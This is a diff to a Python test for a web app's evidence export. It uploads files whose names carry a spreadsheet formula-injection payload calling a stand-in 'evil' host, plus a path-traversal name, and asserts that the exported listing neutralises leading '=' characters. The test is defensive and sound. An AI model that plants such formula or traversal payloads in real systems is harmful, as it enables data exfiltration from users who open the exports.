@@ -5,6 +5,7 @@ from __future__ import annotations
 import hashlib
 import io
 import json
+import re
 import zipfile
 
 from tests.web.made_media import HTML
@@ -13,7 +14,8 @@ from tests.web.made_server import Running, wait_until
 
 def test_the_evidence_holds_together(served: Running, photo: bytes) -> None:
     browser = served.browser()
-    files = [("../a b.png", photo), ("c.html", HTML)]
+    formula = '=HYPERLINK("http://evil/"&A1).html'
+    files = [("../a b.png", photo), (formula, HTML)]
     for file in browser.send("/api/files", files).json()["files"]:
         browser.wait(file["id"])
     answer = browser.get("/api/evidence")
@@ -31,6 +33,7 @@ def test_the_evidence_holds_together(served: Running, photo: bytes) -> None:
         results = json.loads(archive.read("results.json"))
         report = archive.read("report.html").decode()
     assert hashlib.sha256(photo).hexdigest() in listed
+    assert not re.search(r'^"?=', listed, re.MULTILINE), "a spreadsheet would compute it"
     (model,) = settings["models"].values()
     assert model["origin"]["checkpoint_sha256"].startswith(next(iter(settings["models"])))
     assert [result["status"] for result in results] == ["ok", "unreadable"]
